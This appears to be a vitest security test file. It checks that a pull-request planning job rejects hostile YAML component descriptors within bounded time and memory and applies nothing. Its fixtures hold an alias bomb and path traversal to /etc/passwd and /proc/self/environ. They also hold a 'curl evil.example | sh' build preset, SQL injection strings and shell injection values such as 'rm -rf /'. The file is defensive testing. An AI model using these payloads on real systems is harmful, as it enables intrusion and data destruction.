/**
 * Hostile descriptors through the real path: a pull request of a component repository in the
 * GitHub double, planned by the job handler (the real GitHub adapter reading the tree and blobs,
 * runs in real Redis), and its merge applied. Each hostile file must give a failed plan whose
 * comment names the file, line and column, in bounded time and memory, and nothing may be
 * executed or applied: the apply ports are a tripwire (any use is recorded and fails).
 *
 * Bounds are generous on purpose (a shared 2-core machine): < 2 s and < 200 MB per plan. The
 * 10 MiB file is refused from the tree listing's size, before its blob is downloaded.
 */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { silentLogger } from '../../src/domain/logger.js';
import type { JobContext, JobDeps } from '../../src/jobs/context.js';
import { handleJob } from '../../src/jobs/handle-job.js';
import type { JobRequest } from '../../src/queue/jobs.js';
import { INSTALLATION, useGitHubHarness } from '../github-double/adapter-harness.js';
import { filesFromDirectory } from '../github-double/index.js';
import { applyTripwire, testJobDeps } from '../helpers/job-deps.js';
import { testRedis } from '../helpers/redis.js';

const PLATFORM = 'acme-bank/platform';
const REPO = 'acme-bank/investment-banking-backend';
const FILE = '.choreo/component.yaml';

const r = testRedis();
afterAll(() => r.cleanup());
const h = useGitHubHarness();
const ctx: JobContext = { logger: silentLogger, willRetry: () => false };
const meta = { installationId: INSTALLATION, deliveryId: 'd-hostile', receivedAt: 0 };
const enqueued: JobRequest[] = [];
const touched: string[] = [];
const tripwire = applyTripwire(touched, 'hostile input reached the apply ports');
let deps: JobDeps;
let original: string;

beforeAll(async () => {
  const state = h.github.state;
  state.createRepo(PLATFORM, { installationId: INSTALLATION, files: filesFromDirectory('platform-repo-example') });
  const files = filesFromDirectory(join('examples', 'investment-banking-backend'));
  state.createRepo(REPO, { installationId: INSTALLATION, files });
  // Without its connection to a component this test does not index, so that only the hostile part can fail a plan.
  original = new TextDecoder().decode(files[FILE]).replace(/^dependencies:\n((  |    ).*\n)*/m, '');
  expect(original).not.toContain('dependencies:');
  deps = testJobDeps({ ports: h.ports, platformRepo: PLATFORM, redis: r, enqueued: enqueued, apply: tripwire });
});

const withBuild = (build: string) => original.replace(/^build:\n(  .*\n)*/m, `build: ${build}\n`);
const withName = (name: string) => original.replace(/^component:\n  name: [^\n]+/m, `component:\n  name: ${name}`);
function aliasBomb(): string {
  const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i < 10; i++) levels.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill('*' + String.fromCharCode(96 + i)).join(',')}]`);
  return `schemaVersion: 1.2\n${levels.join('\n')}\n`;
}
const encode = (s: string) => new TextEncoder().encode(s);

/** Hostile descriptors: the file's bytes, and what the plan comment must say (code and position). */
const HOSTILE: { name: string; bytes: () => Uint8Array; expect: RegExp; warning?: true }[] = [
  { name: 'an alias bomb (billion laughs)', bytes: () => encode(aliasBomb()), expect: /too many YAML aliases/ },
  { name: '900 KiB of nested flow sequences', bytes: () => encode('['.repeat(900 * 1024)), expect: /YAML nesting too deep/ },
  { name: 'deeply nested block mappings', bytes: () => encode(Array.from({ length: 300 }, (_, i) => `${' '.repeat(i)}a:`).join('\n') + ' 1\n'), expect: /YAML nesting too deep/ },
  { name: 'a 10 MiB file', bytes: () => encode(`schemaVersion: 1.2\n# ${'x'.repeat(10 * 1024 * 1024)}\n`), expect: /`\.choreo\/component\.yaml:1:1` file is larger than the 1\.0 MiB limit/ },
  { name: 'invalid UTF-8', bytes: () => new Uint8Array([...encode('schemaVersion: 1.2\ncomponent:\n  name: '), 0xc3, 0x28, 0xff, 10]), expect: /`\.choreo\/component\.yaml:3:9` file is not valid UTF-8/ },
  { name: 'schemaFilePath escaping the repository', bytes: () => encode(original.replace(/schemaFilePath: [^\n]+/, 'schemaFilePath: ../../../../etc/passwd')), expect: /schemaFilePath "\.\.\/\.\.\/\.\.\/\.\.\/etc\/passwd" points outside the repository/ },
  { name: 'schemaFilePath absolute into /proc', bytes: () => encode(original.replace(/schemaFilePath: [^\n]+/, 'schemaFilePath: /../../proc/self/environ')), expect: /points outside the repository/ },
  { name: 'a build context outside the component', bytes: () => encode(withBuild('{preset: nodejs, context: "../../.."}')), expect: /build\.context .*outside/i },
  // Descriptors name no Dockerfile (the preset decides): the key is unknown (a schema warning) and read by nothing.
  { name: 'a dockerfile path outside the component', bytes: () => encode(withBuild('{preset: docker, context: ., dockerfile: "../../../etc/shadow"}')), expect: /Plan ready/, warning: true },
  { name: 'shell metacharacters in the build preset name', bytes: () => encode(withBuild('{preset: "nodejs; curl evil.example | sh"}')), expect: /`build\.preset` must match/ },
  ...["pf'; DROP DATABASE postgres; --", 'pf"; DROP ROLE postgres; --', '$(id)'].map((name) => ({
    name: `the database resource name ${JSON.stringify(name)}`,
    bytes: () => encode(original.replace(/^  - name: portfolio-db$/m, `  - name: ${JSON.stringify(name)}`)),
    expect: /`\.choreo\/component\.yaml:10:11` `resources\.0\.name` must match/,
  })),
  ...["x'; DROP DATABASE postgres; --", 'a"; DROP ROLE postgres; --', '$(touch /tmp/pave-pwned)', '`id`', 'a;rm -rf /', 'a\\u0000b', 'a|b', '../../etc', 'x'.repeat(300)].map((name) => ({
    name: `the component name ${JSON.stringify(name).slice(0, 40)}`,
    bytes: () => encode(withName(JSON.stringify(name))),
    expect: /`component\.name` must match/,
  })),
];

describe('hostile descriptors in a pull request', () => {
  let n = 0;
  it.each(HOSTILE)('$name: refused with the file and position (or ignored), bounded, nothing applied', async ({ bytes, expect: message, warning }) => {
    const content = bytes();
    const branch = `hostile-${++n}`;
    h.github.state.commit(REPO, { branch, files: { [FILE]: content } });
    const pr = h.github.state.createPullRequest(REPO, { head: branch, author: 'mallory' });
    h.github.clearRequests();
    enqueued.length = 0;
    global.gc?.();
    const heapBefore = process.memoryUsage().heapUsed;
    const started = performance.now();

    await handleJob(deps, { kind: 'plan-pr', ...meta, repo: REPO, prNumber: pr.number, headSha: pr.headSha, baseSha: pr.baseSha, all: true }, ctx);

    const ms = performance.now() - started;
    const heapMb = (process.memoryUsage().heapUsed - heapBefore) / 1e6;
    expect(ms, 'plan time (ms)').toBeLessThan(2_000);
    expect(heapMb, 'heap growth (MB)').toBeLessThan(200);
    const report = enqueued.find((j) => j.kind === 'report') as { runId: string } | undefined;
    const run = report && await deps.runs.get(report.runId);
    expect(run?.state).toBe(warning ? 'succeeded' : 'failed');
    const text = `${run?.comment ?? ''}\n${run?.fullMarkdown ?? ''}`;
    expect(text).toMatch(message);
    if (!warning) expect(text).toMatch(/`\.choreo\/component\.yaml:\d+:\d+`/);
    expect(text).not.toContain('etc/shadow');
    expect(touched).toEqual([]);
    if (content.byteLength > 1024 * 1024) {
      // Refused from the listing's size: its blob was never downloaded.
      expect(h.github.requests.filter((q) => q.operation === 'GET /repos/{owner}/{repo}/git/blobs/{file_sha}' && q.status === 200).map((q) => q.path)).not.toContainEqual(expect.stringContaining(FILE));
      expect(h.github.requests.some((q) => JSON.stringify(q.body ?? '').length > 1024 * 1024)).toBe(false);
    }
  });
});
